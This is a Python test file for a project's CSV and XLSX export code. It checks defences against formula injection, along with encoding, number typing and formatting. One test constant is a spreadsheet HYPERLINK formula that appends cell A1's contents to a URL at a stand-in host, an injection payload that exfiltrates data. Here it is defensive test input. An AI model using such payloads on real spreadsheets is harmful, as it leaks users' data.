"""Every CSV and XLSX writes text as text (no formula runs) and numbers as numbers."""

from __future__ import annotations

import ast
import csv
import io
import subprocess
import sys
import zipfile
from decimal import Decimal
from pathlib import Path

from openpyxl import load_workbook

from stars.core.spreadsheets import xlsx
from stars.domain.spreadsheet_text import csv_bytes, csv_text

ATTACK = '=HYPERLINK("http://example.invalid/?d="&A1,"Click")'
SRC = Path(__file__).resolve().parents[2] / "src" / "stars"


def test_csv_quotes_formulas_and_keeps_numbers():
    rows = [
        [ATTACK, "+1+1", "@SUM(A1)", "\t=1", "-853592.00", -853592.0, Decimal("-1.50"), None, "ok"]
    ]
    text = csv_text(["=header", "b", "c", "d", "e", "f", "g", "h", "i"], rows)
    header, row = list(csv.reader(io.StringIO(text)))
    assert header[0] == "'=header"
    assert row == [
        "'" + ATTACK,
        "'+1+1",
        "'@SUM(A1)",
        "'\t=1",
        "-853592.00",
        "-853592.0",
        "-1.50",
        "",
        "ok",
    ]


def test_csv_files_are_utf8_with_a_byte_order_mark_that_excel_reads():
    """Excel on Windows reads a CSV without a byte-order mark in the machine's code page:
    "£" showed as "Â£" and "Zoë" as "ZoÃ«". The file is the same table, marked as UTF-8."""
    headers = ["name", "note", "amount"]
    rows = [["Zoë Brontë", "£5 for Ciarán", Decimal("12.50")], [ATTACK, None, -3]]
    body = csv_bytes(headers, rows)
    assert body.startswith(b"\xef\xbb\xbf")
    assert not body[3:].startswith(b"\xef\xbb\xbf")  # one mark, not two
    assert body.decode("utf-8-sig") == csv_text(headers, rows)
    assert list(csv.reader(io.StringIO(body.decode("utf-8-sig")))) == [
        headers,
        ["Zoë Brontë", "£5 for Ciarán", "12.50"],
        ["'" + ATTACK, "", "-3"],  # formulas still quoted
    ]


def test_xlsx_text_is_typed_as_text_and_numbers_stay_numbers():
    body = xlsx(
        {"Sheet": (["name", "amount", "code"], [[ATTACK, Decimal("-853592.00"), "#N/A"]])},
        money_columns={"Sheet": {"amount"}},
    )
    ws = load_workbook(io.BytesIO(body)).active
    name, amount, code = ws[2]
    assert (name.value, name.data_type) == (ATTACK, "s")  # shown as typed, not run
    assert name.quotePrefix  # and editing the cell does not bring it to life
    assert (amount.value, amount.data_type) == (-853592.0, "n")
    assert (code.value, code.data_type) == ("#N/A", "s")  # not an error value either
    assert not ws[1][0].quotePrefix


def test_rates_are_numbers_shown_as_percentages_as_on_the_pages():
    """A rate is a Decimal of four places (0.6471), not money: it was written as the text
    "0.6471"; it is the number, shown as 64.7% as the page shows it."""
    rows = [["All", Decimal("0.6471")], ["A", None], ["B", "c"], ["C", 0.25], ["short"]]
    body = xlsx({"Rates": (["group", "rate"], rows)}, rate_columns={"Rates": {"rate"}})
    ws = load_workbook(io.BytesIO(body)).active
    rate = ws["B2"]
    assert (rate.value, rate.data_type, rate.number_format) == (0.6471, "n", "0.0%")
    assert ws["B3"].value is None and ws["B4"].value == "c"
    assert (ws["B5"].value, ws["B5"].number_format) == (0.25, "0.0%")


def test_only_the_spreadsheet_module_writes_csv_or_xlsx():
    """Every CSV goes through stars.domain.spreadsheet_text (the tracker's CSV too) and
    every XLSX through stars.core.spreadsheets."""
    allowed = {
        SRC / "core" / "spreadsheets.py",
        SRC / "domain" / "spreadsheet_text.py",
        # a return's sheet as the CSV text the import reads, never written out
        SRC / "domain" / "sufficiency" / "workbooks.py",
    }
    offenders = []
    for path in SRC.rglob("*.py"):
        if path in allowed:
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if (
                isinstance(node, ast.Attribute)
                and node.attr in ("writer", "DictWriter")
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
            ):
                offenders.append(f"{path.relative_to(SRC)}: csv.{node.attr}")
            if (
                isinstance(node, ast.ImportFrom)
                and (node.module or "").startswith("openpyxl")
                and any(a.name == "Workbook" for a in node.names)
            ):
                offenders.append(f"{path.relative_to(SRC)}: openpyxl Workbook")
    assert offenders == []


def test_the_pages_load_openpyxl_only_to_write_a_workbook():
    # openpyxl (and numpy, which it loads) took about 28 MiB of every page's process
    code = (
        "import sys; from stars.cli.console import setup; setup(migrate=False); "
        "import stars.sufficiency.views, stars.core.spreadsheets as s; "
        "print('openpyxl' in sys.modules); s.xlsx({'a': (['h'], [[1]])}); "
        "print('openpyxl' in sys.modules)"
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.split() == ["False", "True"]


def test_xlsx_cells_hold_no_page_layout_characters_and_decimals_are_exact_numbers():
    """A word joiner (U+2060) keeps a sign on its amount's line on a page; in a cell it is an
    invisible character Excel keeps. A Decimal of more than two places was written as text."""
    rows = [["\u2212\u2060£5.00 since\u00a0Q1", Decimal("12.345"), Decimal("3600.00")]]
    body = xlsx({"S": (["headline", "a", "b"], rows)}, money_columns={"S": {"a", "b"}})
    ws = load_workbook(io.BytesIO(body)).active
    text, exact, pennies = ws[2]
    assert text.value == "\u2212£5.00 since Q1"
    assert (exact.value, exact.data_type) == (12.345, "n")
    assert (pennies.value, pennies.data_type) == (3600, "n")
    assert exact.number_format == pennies.number_format == "£#,##0.00;[Red]-£#,##0.00"
    xml = zipfile.ZipFile(io.BytesIO(body)).read("xl/worksheets/sheet1.xml")
    assert b"<v>12.345</v>" in xml  # the exact value, not a float's approximation
